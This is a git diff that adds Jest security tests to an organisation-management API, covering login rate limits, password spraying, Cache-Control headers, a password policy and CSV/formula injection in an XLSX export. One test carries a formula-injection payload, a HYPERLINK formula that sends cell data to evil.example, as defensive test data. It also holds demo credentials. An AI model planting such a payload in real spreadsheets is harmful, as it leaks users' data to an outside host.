@@ -3,6 +3,7 @@
  * role AND jurisdiction on every endpoint, sessions, rate limit, audit.
  */
 import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
+import ExcelJS from 'exceljs';
 import { startStack, type HttpClient, type Stack } from '../support/stack';
 
 let stack: Stack;
@@ -15,7 +16,11 @@ async function orgId(code: string): Promise<string> {
 }
 
 beforeAll(async () => {
-  stack = await startStack({ seed: true, env: { LOGIN_RATE_LIMIT: '5', LOGIN_RATE_WINDOW_SECONDS: '60' } });
+  stack = await startStack({
+    seed: true,
+    // one proxy is trusted so a test can log in from other addresses (X-Forwarded-For)
+    env: { LOGIN_RATE_LIMIT: '5', LOGIN_IP_RATE_LIMIT: '50', LOGIN_RATE_WINDOW_SECONDS: '60', TRUST_PROXY: '1' },
+  });
   ids['province'] = await orgId('410000');
   ids['xinyang'] = await orgId('411500');
   ids['shihe'] = await orgId('411502');
@@ -97,6 +102,49 @@ describe('sessions', () => {
     expect(
       (await stack.client().post('/api/auth/login', { username: 'admin', password: 'Hutong-demo-2026' })).status,
     ).toBe(200);
+  });
+
+  it('sends Retry-After (seconds) with the 429', async () => {
+    const c = stack.client();
+    let res = await c.post('/api/auth/login', { username: 'retry-after', password: 'x' });
+    for (let i = 0; i < 5; i++) res = await c.post('/api/auth/login', { username: 'retry-after', password: 'x' });
+    expect(res.status).toBe(429);
+    expect(res.body).toMatchObject({ statusCode: 429, code: 'auth.too_many_attempts' });
+    const retry = Number(res.headers.get('retry-after'));
+    expect(retry).toBeGreaterThan(0);
+    expect(retry).toBeLessThanOrEqual(60);
+  });
+
+  it('also limits attempts per address across user names (LOGIN_IP_RATE_LIMIT)', async () => {
+    const from = (address: string, username: string) =>
+      fetch(`${stack.baseUrl}/api/auth/login`, {
+        method: 'POST',
+        headers: { 'content-type': 'application/json', 'x-forwarded-for': address },
+        body: JSON.stringify({ username, password: 'wrong-password-1' }),
+      });
+    const statuses: number[] = [];
+    for (let i = 0; i < 50; i++) statuses.push((await from('203.0.113.7', `spray-${i}`)).status);
+    expect(new Set(statuses)).toEqual(new Set([401]));
+    const blocked = await from('203.0.113.7', 'spray-last');
+    expect(blocked.status).toBe(429);
+    expect(Number(blocked.headers.get('retry-after'))).toBeGreaterThan(0);
+    // a real user from that address is refused too, while another address is not
+    expect((await from('203.0.113.7', 'admin')).status).toBe(429);
+    expect((await from('198.51.100.9', 'spray-0')).status).toBe(401);
+  });
+
+  it('answers every /api response with Cache-Control: no-store, errors included', async () => {
+    const admin = await stack.login('expert');
+    for (const res of [
+      await admin.get('/api/auth/me'),
+      await admin.get('/api/organisations'),
+      await admin.get('/api/organisations/import-template.csv'),
+      await stack.client().get('/api/auth/me'),
+      await admin.get('/api/organisations/00000000-0000-4000-8000-000000000000'),
+    ])
+      expect([res.status, res.headers.get('cache-control')]).toEqual([res.status, 'no-store']);
+    // the health check (Terminus) sets its own, stricter header
+    expect((await stack.client().get('/api/health')).headers.get('cache-control')).toMatch(/\bno-store\b/);
   });
 
   it('validates the login body', async () => {
@@ -226,6 +274,30 @@ describe('coordinator: inside its jurisdiction (信阳市) only', () => {
     expect(audit.rows[0].after.name).toBe('浉河区新建社区卫生服务中心（改）');
   });
 
+  it('exports a name that starts like a formula as text (CSV/formula injection), numbers stay numbers', async () => {
+    const name = '=HYPERLINK("http://evil.example/?q="&A1,"点此查看")';
+    const res = await coordinator.post('/api/organisations', {
+      code: 'XY-FORMULA-1',
+      name,
+      level: 'institution',
+      kind: 'hospital',
+      regionCode: '411502',
+      parentId: ids['shihe'],
+    });
+    expect(res.status).toBe(201);
+    const exported = await fetch(`${stack.baseUrl}/api/organisations/export.xlsx?q=XY-FORMULA`, {
+      headers: { cookie: coordinator.cookieHeader() },
+    });
+    expect(exported.status).toBe(200);
+    const wb = new ExcelJS.Workbook();
+    await wb.xlsx.load(await exported.arrayBuffer());
+    const row = wb.worksheets[0].getRow(2);
+    expect(row.getCell(1).value).toBe('XY-FORMULA-1');
+    expect(row.getCell(2).value).toBe(`'${name}`);
+    expect(row.getCell(2).formula).toBeUndefined();
+    expect(row.getCell(7).value).toBe(0);
+  });
+
   it('rejects bad input with a clear 4xx and writes nothing', async () => {
     const before = await stack.db.query('select count(*)::int as n from organisation');
     const bad = await coordinator.post('/api/organisations', {
@@ -335,6 +407,28 @@ describe('admin: users', () => {
     expect(res.body.total).toBeGreaterThanOrEqual(2);
     expect(res.body.items[0].role).toBe('coordinator');
     expect(JSON.stringify(res.body)).not.toContain('argon2');
+  });
+
+  it('applies the password policy on create and on reset, with a stable code on the password field', async () => {
+    const admin = await stack.login('admin');
+    const base = { username: 'pw-policy', displayName: '密码策略', role: 'viewer', jurisdictionId: ids['xinyang'] };
+    const refused: [string, string][] = [
+      ['password12', 'password.common'],
+      ['Password123', 'password.common'],
+      ['pw-policy', 'password.too_short'],
+      ['PW-Policy-2026!', 'password.contains_username'],
+      ['kq7mzt2wxpab', 'password.too_simple'],
+    ];
+    for (const [password, code] of refused) {
+      const res = await admin.post('/api/users', { ...base, password });
+      expect([password, res.status, res.body.code]).toEqual([password, 400, code]);
+      expect(res.body.details).toEqual([{ field: 'password', reason: res.body.message }]);
+    }
+    const created = await admin.post('/api/users', { ...base, password: 'Hutong-demo-2026' });
+    expect(created.status).toBe(201);
+    const reset = await admin.patch(`/api/users/${created.body.id}`, { password: 'Pw-policy#2026' });
+    expect([reset.status, reset.body.code]).toEqual([400, 'password.contains_username']);
+    expect((await admin.patch(`/api/users/${created.body.id}`, { password: 'Tea-4-two-xyz' })).status).toBe(200);
   });
 });
 
